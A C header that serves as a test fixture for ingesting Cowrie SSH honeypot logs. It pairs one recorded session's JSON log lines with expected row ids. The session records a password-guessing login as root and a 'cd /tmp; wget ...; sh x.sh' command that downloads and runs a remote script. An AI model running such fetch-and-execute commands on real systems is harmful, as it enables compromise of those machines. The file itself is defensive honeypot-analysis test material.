/* The worked example of the ingest contract: the lines of one session, and the ids of their log rows. Golden: the ids
 * are hashes of the bytes. */
#pragma once

/* clang-format off */
static const char *const example_lines[] = {
    "{\"eventid\":\"cowrie.session.connect\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.2"
    "3\",\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"message\":\"New connection: 198.51.100.23:5"
    "1514 (192.0.2.10:2222) [session: c3f1a9e07b42]\",\"sensor\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp\":\"202"
    "6-05-10T08:25:01.004512Z\"}",
    "{\"eventid\":\"cowrie.client.version\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.23"
    "\",\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"version\":\"SSH-2.0-libssh_0.11.1\",\"message\""
    ":\"Remote SSH version: SSH-2.0-libssh_0.11.1\",\"sensor\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp\":\"2026-0"
    "5-10T08:25:01.101200Z\"}",
    "{\"eventid\":\"cowrie.client.kex\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.23\",\"s"
    "rc_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"hassh\":\"3c22e3bfc2b8b121088e0bc23a380321\",\"has"
    "shAlgorithms\":\"curve25519-sha256,diffie-hellman-group14-sha256;aes128-ctr,aes256-ctr;hmac-sha2-256;n"
    "one,zlib@openssh.com\",\"kexAlgs\":[\"curve25519-sha256\",\"diffie-hellman-group14-sha256\"],\"keyAlgs\":[\"ss"
    "h-ed25519\"],\"encCS\":[\"aes128-ctr\",\"aes256-ctr\"],\"macCS\":[\"hmac-sha2-256\"],\"compCS\":[\"none\",\"zlib@ope"
    "nssh.com\"],\"langCS\":[\"\"],\"message\":\"SSH client hassh fingerprint: 3c22e3bfc2b8b121088e0bc23a380321\","
    "\"sensor\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp\":\"2026-05-10T08:25:01.143900Z\"}",
    "{\"eventid\":\"cowrie.login.failed\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.23\","
    "\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"username\":\"root\",\"password\":\"admin\",\"message"
    "\":\"login attempt [root/admin] failed\",\"sensor\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp\":\"2026-05-10T08"
    ":25:04.118200Z\"}",
    "{\"eventid\":\"cowrie.login.success\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.23\""
    ",\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"username\":\"root\",\"password\":\"P@ssw0rd123\",\""
    "message\":\"login attempt [root/P@ssw0rd123] succeeded\",\"sensor\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp"
    "\":\"2026-05-10T08:25:07.520300Z\"}",
    "{\"eventid\":\"cowrie.session.params\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.23"
    "\",\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"arch\":\"linux-x64-lsb\",\"message\":\"\",\"sensor"
    "\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp\":\"2026-05-10T08:25:08.002000Z\"}",
    "{\"eventid\":\"cowrie.command.input\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.23\""
    ",\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"input\":\"uname -a\",\"message\":\"CMD: uname -a\""
    ",\"sensor\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp\":\"2026-05-10T08:25:12.301000Z\"}",
    "{\"eventid\":\"cowrie.command.input\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.23\""
    ",\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"input\":\"cd /tmp; wget http://203.0.113.80/x"
    ".sh; sh x.sh\",\"message\":\"CMD: cd /tmp; wget http://203.0.113.80/x.sh; sh x.sh\",\"sensor\":\"edge-01\",\"u"
    "uid\":\"unknown\",\"timestamp\":\"2026-05-10T08:25:40.917000Z\"}",
    "{\"eventid\":\"cowrie.session.file_download\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51"
    ".100.23\",\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"url\":\"http://203.0.113.80/x.sh\",\"ou"
    "tfile\":\"var/lib/cowrie/downloads/04743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3\",\""
    "shasum\":\"04743a83336761d98a0d882c190d89c89e4f08364205412fa382639e6ec5e5f3\",\"destfile\":\"/tmp/x.sh\",\"d"
    "uplicate\":false,\"message\":\"Downloaded URL\",\"sensor\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp\":\"2026-05-"
    "10T08:25:42.350100Z\"}",
    "{\"eventid\":\"cowrie.log.closed\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.23\",\"s"
    "rc_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"ttylog\":\"var/lib/cowrie/tty/625d121d6b18dee1a8"
    "d67b391bb3bf03e8789ac32972e1fbcefae133357460bb\",\"size\":1834,\"shasum\":\"625d121d6b18dee1a8d67b391bb3bf"
    "03e8789ac32972e1fbcefae133357460bb\",\"duplicate\":false,\"duration_ms\":142117,\"message\":\"Closing TTY Lo"
    "g\",\"sensor\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp\":\"2026-05-10T08:27:30.120000Z\"}",
    "{\"eventid\":\"cowrie.session.closed\",\"session\":\"c3f1a9e07b42\",\"protocol\":\"ssh\",\"src_ip\":\"198.51.100.23"
    "\",\"src_port\":51514,\"dst_ip\":\"192.0.2.10\",\"dst_port\":2222,\"duration_ms\":149120,\"message\":\"Connection "
    "lost after 149120 milliseconds\",\"sensor\":\"edge-01\",\"uuid\":\"unknown\",\"timestamp\":\"2026-05-10T08:27:30"
    ".125000Z\"}",
};

static const char *const example_log_ids[] = {
    "64485890-8e12-5c35-978d-9cf76b06f580",
    "e07e559a-e548-5d46-9517-64477e37c7b8",
    "0afcfb3c-3984-5fde-a84d-867920449c14",
    "6815b745-d8cd-57a5-8fa3-95be13a7c615",
    "b962fcb9-7f18-5840-a7be-6d56f755a8b3",
    "ef4046de-3917-5f40-9a3c-a42ccc7a8a30",
    "747ee9c8-9950-59be-998b-d86a25a1f6a5",
    "291c04cd-c0ad-511d-b10e-2d7b062b9f0f",
    "50785f9d-a994-5d5b-bc63-4ebd6f4d45b4",
    "4acee53f-ca82-5105-88e1-0d34a3a063fc",
    "6a3b22ee-160d-5cd9-9cd4-da6307125920",
};
/* clang-format on */
